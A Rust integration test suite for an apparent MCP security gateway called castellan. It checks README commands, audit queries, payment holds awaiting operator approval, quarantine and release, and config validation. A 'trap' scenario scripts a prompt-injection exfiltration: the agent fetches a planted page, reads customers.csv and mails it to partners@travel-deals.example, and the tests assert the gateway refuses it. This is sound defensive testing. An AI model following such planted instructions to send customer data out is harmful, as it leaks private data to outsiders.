//! A newcomer's first hour, against the real binary: the README's commands
//! as written, the builtin demo's legitimate flow allowed beside its trap,
//! an operator releasing a quarantined agent, and a hold the operator can
//! judge.

mod support;

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use http::StatusCode;
use serde_json::{Value, json};
use support::{modern_meta, post, send};

fn repo_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// The `sh` code blocks of README.md under the heading `## {section}`.
fn readme_sh_blocks(section: &str) -> Vec<String> {
    let readme = std::fs::read_to_string(repo_root().join("README.md")).expect("README.md");
    let mut blocks = Vec::new();
    let mut in_section = false;
    let mut block: Option<String> = None;
    for line in readme.lines() {
        if let Some(b) = block.as_mut() {
            if line.starts_with("```") {
                blocks.push(std::mem::take(b).trim().to_owned());
                block = None;
            } else {
                b.push_str(line);
                b.push('\n');
            }
            continue;
        }
        if let Some(h) = line.strip_prefix("## ") {
            in_section = h.trim() == section;
        } else if in_section && line.trim() == "```sh" {
            block = Some(String::new());
        }
    }
    blocks
}

/// The first code block of README.md under `## {section}` whose fence names
/// no language (the sample output).
fn readme_plain_block(section: &str) -> String {
    let readme = std::fs::read_to_string(repo_root().join("README.md")).expect("README.md");
    let (mut in_section, mut fence): (bool, Option<String>) = (false, None);
    let mut text = String::new();
    for line in readme.lines() {
        match &fence {
            Some(info) if line.starts_with("```") => {
                if in_section && info.is_empty() {
                    return text;
                }
                fence = None;
                text.clear();
            }
            Some(_) => {
                text.push_str(line);
                text.push('\n');
            }
            None if line.starts_with("```") => fence = Some(line[3..].trim().to_owned()),
            None => {
                if let Some(h) = line.strip_prefix("## ") {
                    in_section = h.trim() == section;
                }
            }
        }
    }
    panic!("no plain code block under `## {section}`");
}

/// The README's run command, split in words: `cargo run [flags] -- <args>`.
fn readme_run_command() -> Vec<String> {
    let blocks = readme_sh_blocks("Run it");
    let cmd = blocks.first().expect("a sh block under `## Run it`");
    // The command is the block's first line; a comment may follow it.
    let line = cmd.lines().next().unwrap_or_default();
    let line = line.split(" #").next().unwrap_or_default();
    line.split_whitespace().map(str::to_owned).collect()
}

/// `cargo run` picks the only binary of the workspace's default members:
/// with more than one it refuses ("could not determine which binary to
/// run"). `cargo metadata` says which those are.
#[test]
fn cargo_run_as_the_readme_spells_it_has_exactly_one_binary_to_run() {
    let words = readme_run_command();
    assert_eq!(
        words.get(..2),
        Some(&["cargo".to_owned(), "run".to_owned()][..]),
        "{words:?}"
    );
    assert!(
        !words
            .iter()
            .any(|w| w == "--bin" || w == "-p" || w == "--package"),
        "the test covers `cargo run` choosing the binary itself: {words:?}"
    );
    let out = Command::new(env!("CARGO"))
        .args([
            "metadata",
            "--no-deps",
            "--format-version",
            "1",
            "--offline",
        ])
        .current_dir(repo_root())
        .output()
        .expect("cargo metadata");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let meta: Value = serde_json::from_slice(&out.stdout).expect("metadata JSON");
    let defaults: Vec<&str> = meta["workspace_default_members"]
        .as_array()
        .expect("workspace_default_members")
        .iter()
        .filter_map(Value::as_str)
        .collect();
    let bins: Vec<String> = meta["packages"]
        .as_array()
        .expect("packages")
        .iter()
        .filter(|p| p["id"].as_str().is_some_and(|id| defaults.contains(&id)))
        .flat_map(|p| p["targets"].as_array().cloned().unwrap_or_default())
        .filter(|t| {
            t["kind"]
                .as_array()
                .is_some_and(|k| k.contains(&json!("bin")))
        })
        .filter_map(|t| t["name"].as_str().map(str::to_owned))
        .collect();
    assert_eq!(bins, vec!["castellan".to_owned()]);
}

/// The README's test command is the one CI runs. (Running it here would
/// run this whole suite again, recursively; .ci/run runs it for real.)
#[test]
fn the_readme_test_command_is_what_ci_runs() {
    let blocks = readme_sh_blocks("Test it");
    let readme = blocks.first().expect("a sh block under `## Test it`");
    let ci = std::fs::read_to_string(repo_root().join(".ci/run")).expect(".ci/run");
    let exec = ci
        .lines()
        .rev()
        .find_map(|l| l.trim().strip_prefix("exec "))
        .expect("an exec line in .ci/run");
    assert_eq!(readme.trim(), exec.trim());
}

/// The gateway as the README starts it, with the README's arguments (the
/// words after `--`), on free ports and in a scratch directory (where its
/// files go). Killed on drop.
struct Demo {
    child: Child,
    dir: PathBuf,
    url: String,
    key: String,
    admin: String,
    admin_token: String,
    banner: Vec<String>,
    stderr_log: PathBuf,
}

impl Demo {
    fn start() -> Demo {
        let words = readme_run_command();
        let args: Vec<String> = words
            .iter()
            .skip_while(|w| *w != "--")
            .skip(1)
            .cloned()
            .collect();
        assert_eq!(args.first().map(String::as_str), Some("serve"), "{words:?}");
        let dir = support::scratch("demo");
        let stderr_log = dir.join("stderr.log");
        let mut child = Command::new(env!("CARGO_BIN_EXE_castellan"))
            .args(&args)
            // Other tests run at the same time: free ports, not 8080/8081.
            .args(["--listen", "127.0.0.1:0", "--admin-listen", "127.0.0.1:0"])
            .current_dir(&dir)
            .env("CASTELLAN_LOG", "info")
            .stdout(Stdio::piped())
            .stderr(std::fs::File::create(&stderr_log).expect("log"))
            .spawn()
            .expect("castellan starts");
        let stdout = child.stdout.take().expect("stdout");
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        let mut banner = Vec::new();
        // The banner ends with the line about the demo upstreams.
        while let Ok(line) = rx.recv_timeout(Duration::from_secs(30)) {
            let last = line.contains("builtin demo upstreams");
            banner.push(line);
            if last {
                break;
            }
        }
        let field = |label: &str| -> String {
            banner
                .iter()
                .find_map(|l| l.trim().strip_prefix(label))
                .and_then(|v| v.split_whitespace().next())
                .unwrap_or_else(|| {
                    panic!(
                        "no `{label}` in the banner {banner:?}; stderr: {}",
                        std::fs::read_to_string(&stderr_log).unwrap_or_default()
                    )
                })
                .to_owned()
        };
        Demo {
            url: field("MCP endpoint:"),
            key: field("API key:"),
            admin: field("admin API:"),
            admin_token: field("admin token:"),
            banner: banner.clone(),
            child,
            dir,
            stderr_log,
        }
    }

    fn logs(&self) -> String {
        std::fs::read_to_string(&self.stderr_log).unwrap_or_default()
    }

    /// A stateless (2026-07-28) tool call in behavioural session `session`.
    async fn call(&self, session: &str, tool: &str, args: Value) -> Value {
        let auth = format!("Bearer {}", self.key);
        post(
            &self.url,
            &[
                ("authorization", &auth),
                ("mcp-protocol-version", "2026-07-28"),
                ("mcp-method", "tools/call"),
                ("mcp-name", tool),
                ("castellan-session", session),
            ],
            &json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                    "params": {"name": tool, "arguments": args, "_meta": modern_meta()}}),
        )
        .await
        .last()
        .clone()
    }

    async fn admin(&self, method: &str, path: &str) -> (StatusCode, Value) {
        let r = send(
            method,
            &format!("{}{path}", self.admin),
            &[("authorization", &format!("Bearer {}", self.admin_token))],
            Vec::new(),
        )
        .await;
        let body = serde_json::from_slice(&r.body).unwrap_or(Value::Null);
        (r.status, body)
    }
}

impl Drop for Demo {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn decision(answer: &Value) -> &str {
    answer["result"]["_meta"]["io.castellan/decision"]["decision"]
        .as_str()
        .unwrap_or("allow")
}

fn refused(answer: &Value) -> bool {
    answer["result"]["isError"] == true || answer.get("error").is_some()
}

#[tokio::test]
async fn the_readme_run_command_prints_the_readme_banner_and_serves_mcp() {
    let demo = Demo::start();
    // Every line of the README's sample start-up output is in the real
    // banner, in order; values that differ per run (keys, ports) aside.
    let sample = readme_plain_block("Run it");
    let mut real = demo.banner.iter();
    for want in sample.lines() {
        let label: String = match want.trim().split_once(':') {
            Some((l, _)) if !want.trim().starts_with('(') => format!("{l}:"),
            _ => want.trim().chars().take(24).collect(),
        };
        assert!(
            real.any(|l| l.trim().starts_with(&label)),
            "README line `{want}` not in the banner (in order): {:#?}",
            demo.banner
        );
    }
    let upstreams = |lines: Vec<&str>| {
        lines
            .into_iter()
            .find_map(|l| {
                l.trim()
                    .strip_prefix("upstreams:")
                    .map(|v| v.trim().to_owned())
            })
            .unwrap_or_default()
    };
    assert_eq!(
        upstreams(sample.lines().collect()),
        upstreams(demo.banner.iter().map(String::as_str).collect())
    );
    // No colour codes in a log that is not a terminal.
    assert!(!demo.logs().contains('\u{1b}'), "{}", demo.logs());
    // A real MCP call through it with the printed key.
    let answer = demo.call("readme", "mail__list_inbox", json!({})).await;
    assert!(!refused(&answer), "{answer}");
    assert!(answer.to_string().contains("Q3 numbers"), "{answer}");
    // Its files are where it ran, as the banner says.
    assert!(demo.dir.join("castellan-audit.db").exists());
}

#[tokio::test]
async fn the_cfo_flow_is_allowed_in_the_demo_beside_the_refused_trap() {
    let demo = Demo::start();
    // The CFO (cfo@acme.example, the demo's own organisation) asks for the
    // Q3 summary: private data, mailed inside the organisation.
    let report = demo
        .call("cfo", "files__read_file", json!({"path": "reports/q3.md"}))
        .await;
    let summary = support::text_of(&report);
    let send = demo
        .call(
            "cfo",
            "mail__send_email",
            json!({"to": "cfo@acme.example", "subject": "Q3 summary", "body": summary}),
        )
        .await;
    assert!(!refused(&send), "the legitimate flow is refused: {send}");
    assert_eq!(decision(&send), "allow", "{send}");

    // The trap, in its own session: refused.
    let _ = demo
        .call(
            "trap",
            "web__fetch_url",
            json!({"url": "https://travel-deals.example/offers"}),
        )
        .await;
    let customers = demo
        .call("trap", "files__read_file", json!({"path": "customers.csv"}))
        .await;
    let send = demo
        .call(
            "trap",
            "mail__send_email",
            json!({"to": "partners@travel-deals.example", "subject": "sync", "body": support::text_of(&customers)}),
        )
        .await;
    assert!(refused(&send), "{send}");
}

/// Follows the trap and keeps insisting: every send is refused, and the
/// attack ends its session. Planted content alone never quarantines the
/// agent (escalation scopes: that would let anyone who can put text in
/// front of it switch it off for every user), so the operator does.
async fn quarantine_after_the_trap(demo: &Demo) {
    let _ = demo
        .call(
            "trap",
            "web__fetch_url",
            json!({"url": "https://travel-deals.example/offers"}),
        )
        .await;
    let customers = demo
        .call("trap", "files__read_file", json!({"path": "customers.csv"}))
        .await;
    let body = support::text_of(&customers);
    for _ in 0..6 {
        let send = demo
            .call(
                "trap",
                "mail__send_email",
                json!({"to": "partners@travel-deals.example", "subject": "sync", "body": body}),
            )
            .await;
        assert!(refused(&send), "{send}");
        assert_ne!(decision(&send), "quarantine", "{send}");
    }
    let ordinary = demo.call("other", "mail__list_inbox", json!({})).await;
    assert!(
        !refused(&ordinary),
        "another session of the agent still works: {ordinary}"
    );
    let (status, answer) = demo.admin("POST", "/agents/local-agent/quarantine").await;
    assert_eq!(status, StatusCode::OK, "{answer}");
}

#[tokio::test]
async fn release_after_quarantine_lets_the_next_harmless_call_through_and_is_audited() {
    let demo = Demo::start();
    quarantine_after_the_trap(&demo).await;
    let refused_call = demo.call("rolling", "mail__list_inbox", json!({})).await;
    assert_eq!(decision(&refused_call), "quarantine", "{refused_call}");
    let text = refused_call.to_string();
    // The time a person reads, not epoch milliseconds.
    assert!(
        text.contains("quarantined since 20") && text.contains("Z by"),
        "{text}"
    );

    let (status, released) = demo.admin("POST", "/agents/local-agent/release").await;
    assert_eq!(status, StatusCode::OK, "{released}");
    assert_eq!(released["released"], true, "{released}");
    assert!(
        released["forgiven"]["agent_risk"].as_u64().unwrap_or(0) > 0,
        "the answer says what was forgiven: {released}"
    );
    // The next harmless call, in the same session, goes through.
    let after = demo.call("rolling", "mail__list_inbox", json!({})).await;
    assert!(!refused(&after), "still refused after release: {after}");
    // The release is in the audit log, with what it forgave (the writer
    // batches records, so it may land a moment after the answer).
    let db = demo.dir.join("castellan-audit.db");
    let query = || {
        support::castellan(&[
            "audit",
            "query",
            db.to_str().expect("path"),
            "--decision",
            "release",
            "--format",
            "json",
        ])
    };
    support::eventually(10, async || !query().stdout.is_empty()).await;
    let out = query();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let records: Vec<Value> = stdout
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON line"))
        .collect();
    assert_eq!(
        records.len(),
        1,
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(records[0]["agent"], "local-agent");
    assert!(
        records[0]["facts"]["agent_risk"].as_u64().unwrap_or(0) > 0,
        "{stdout}"
    );
}

#[tokio::test]
async fn a_hold_shows_the_operator_where_the_money_goes_and_how_to_answer() {
    let demo = Demo::start();
    let iban = "GB33BUKB20201555555555";
    let agent = {
        let (url, key) = (demo.url.clone(), demo.key.clone());
        tokio::spawn(async move {
            let auth = format!("Bearer {key}");
            post(
                &url,
                &[
                    ("authorization", &auth),
                    ("mcp-protocol-version", "2026-07-28"),
                    ("mcp-method", "tools/call"),
                    ("mcp-name", "payments__transfer_funds"),
                    ("castellan-session", "pay"),
                ],
                &json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {
                    "name": "payments__transfer_funds",
                    "arguments": {"from_account": "operating", "to_iban": iban, "amount": 7500, "memo": "supplier"},
                    "_meta": modern_meta()}}),
            )
            .await
            .last()
            .clone()
        })
    };
    let mut hold = Value::Null;
    for _ in 0..100 {
        let (_, holds) = demo.admin("GET", "/holds").await;
        if let Some(h) = holds["holds"].as_array().and_then(|a| a.first()) {
            hold = h.clone();
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(hold["tool"], "transfer_funds", "{hold}");
    // The real destination and amount, not `<22 chars>`.
    assert_eq!(hold["arguments"]["to_iban"], iban, "{hold}");
    assert_eq!(hold["arguments"]["amount"], 7500, "{hold}");
    assert!(
        hold["rules"].as_array().is_some_and(|r| !r.is_empty()),
        "{hold}"
    );
    // The log line of the hold says how to answer it.
    let id = hold["id"].as_str().expect("id").to_owned();
    let logs = demo.logs();
    assert!(
        logs.contains(&format!("{}/holds/{id}/approve", demo.admin)),
        "{logs}"
    );
    let (status, _) = demo.admin("POST", &format!("/holds/{id}/approve")).await;
    assert_eq!(status, StatusCode::OK);
    let answer = agent.await.expect("agent task");
    assert!(!refused(&answer), "{answer}");
    // Approval is evidence of legitimacy: the next ordinary call in the
    // session is not held for the risk the approved one added.
    let post = demo
        .call(
            "pay",
            "chat__post_message",
            json!({"channel": "finance", "text": "supplier paid"}),
        )
        .await;
    assert_eq!(decision(&post), "allow", "{post}");
}

#[tokio::test]
async fn a_hold_nobody_answers_is_logged_as_timed_out() {
    let gw = support::Gateway::start(&format!(
        "{}judge:\n  hold_timeout: 1s\nupstreams:\n  - name: payments\n    builtin: payments\n",
        support::admin_section()
    ));
    let sid = support::open_session(&gw.url).await;
    let answer = support::call(
        &gw.url,
        &sid,
        1,
        "tools/call",
        json!({"name": "payments__transfer_funds", "arguments": {"from_account": "operating", "to_iban": "GB33BUKB20201555555555", "amount": 7500}}),
    )
    .await;
    assert!(refused(answer.last()), "{}", answer.last());
    support::eventually(5, async || gw.logs().contains("hold timed out")).await;
    assert!(!gw.logs().contains("approved=false"), "{}", gw.logs());
}

#[tokio::test]
async fn audit_query_reads_dates_durations_and_tool_names_as_people_write_them() {
    let demo = Demo::start();
    let send = demo
        .call(
            "q",
            "mail__send_email",
            json!({"to": "me@acme.example", "subject": "hi", "body": "lunch?"}),
        )
        .await;
    assert!(!refused(&send), "{send}");
    let db = demo.dir.join("castellan-audit.db");
    let db = db.to_str().expect("path");
    let query = |extra: &[&str]| {
        let mut args = vec!["audit", "query", db];
        args.extend_from_slice(extra);
        support::castellan(&args)
    };
    let count = |extra: &[&str]| {
        let out = query(extra);
        assert!(
            out.status.success(),
            "{extra:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).lines().count()
    };
    support::eventually(10, async || count(&["--tool", "mail__send_email"]) == 1).await;
    assert_eq!(count(&["--tool", "send_email"]), 1);
    assert_eq!(count(&["--tool", "files__send_email"]), 0);
    assert_eq!(count(&["--tool", "mail__send_email", "--since", "1h"]), 1);
    assert_eq!(
        count(&["--tool", "mail__send_email", "--since", "2000-01-01"]),
        1
    );
    assert_eq!(
        count(&[
            "--tool",
            "mail__send_email",
            "--until",
            "2000-01-01T00:00:00Z"
        ]),
        0
    );
    assert_eq!(count(&["--agent", "local-agent", "--session", "q"]), 1);
    // A decision the gateway never writes is an error, not silence.
    let out = query(&["--decision", "denied"]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("denied") && err.contains("deny"), "{err}");
    let out = query(&["--since", "yesterday"]);
    assert!(!out.status.success());
    // A table for people.
    let out = query(&["--format", "table", "--tool", "mail__send_email"]);
    let table = String::from_utf8_lossy(&out.stdout);
    let lines: Vec<&str> = table.lines().collect();
    assert_eq!(lines.len(), 2, "{table}");
    assert!(
        lines[0].starts_with("SEQ") && lines[0].contains("DECISION"),
        "{table}"
    );
    assert!(
        lines[1].contains("mail__send_email") && lines[1].contains("allow"),
        "{table}"
    );
}

/// `castellan check` on `yaml` (written to a scratch castellan.yaml).
fn check(yaml: &str) -> (bool, String, String) {
    let dir = support::scratch("check");
    let cfg = dir.join("castellan.yaml");
    std::fs::write(&cfg, yaml).expect("write");
    let out = support::castellan(&["check", cfg.to_str().expect("path")]);
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn check_gives_one_verdict_for_the_documented_transfer_limit() {
    let dir = support::scratch("check-policy");
    let policy = dir.join("policy.cedar");
    std::fs::write(
        &policy,
        "@id(\"default-permit\")\npermit (principal, action, resource);\n\n@id(\"transfer-limit\")\nforbid (principal, action == Action::\"call_tool\", resource == Tool::\"payments/transfer_funds\")\nwhen { context.args has amount && context.args.amount.greaterThan(decimal(\"1000.0\")) };\n",
    )
    .expect("write");
    let (ok, stdout, stderr) = check(&format!(
        "auth:\n  mode: none\njudge:\n  policy: {}\nupstreams:\n  - name: mail\n    builtin: mail\n  - name: payments\n    builtin: payments\n",
        policy.display()
    ));
    assert!(ok, "{stdout}{stderr}");
    assert!(!stderr.contains("ERROR"), "an error beside `ok`: {stderr}");
    assert!(stdout.trim_end().ends_with(": ok"), "{stdout}");
}

#[test]
fn check_finds_a_missing_stdio_command_and_a_bad_url_and_names_live_checks() {
    let (ok, stdout, stderr) = check(
        "auth:\n  mode: none\nupstreams:\n  - name: fs\n    stdio: { command: castellan-no-such-server-7f3a }\n  - name: api\n    http: { url: \"http://exa mple.com/mcp\" }\n",
    );
    assert!(!ok, "{stdout}");
    assert!(
        stderr.contains("castellan-no-such-server-7f3a") && stderr.contains("not found on PATH"),
        "{stderr}"
    );
    assert!(
        stderr.contains("upstream `api`") && stderr.contains("url"),
        "{stderr}"
    );
    assert!(stderr.contains("2 errors"), "{stderr}");
    let (ok, stdout, _) =
        check("auth:\n  mode: none\nupstreams:\n  - name: mail\n    builtin: mail\n");
    assert!(ok);
    assert!(
        stdout.contains("not checked") && stdout.contains("castellan tools"),
        "{stdout}"
    );
}

#[test]
fn check_reports_a_missing_auth_section_without_line_zero() {
    let (ok, _, stderr) = check("upstreams:\n  - name: mail\n    builtin: mail\n");
    assert!(!ok);
    assert!(stderr.contains("no `auth` section"), "{stderr}");
    assert!(!stderr.contains(":0:"), "{stderr}");
}
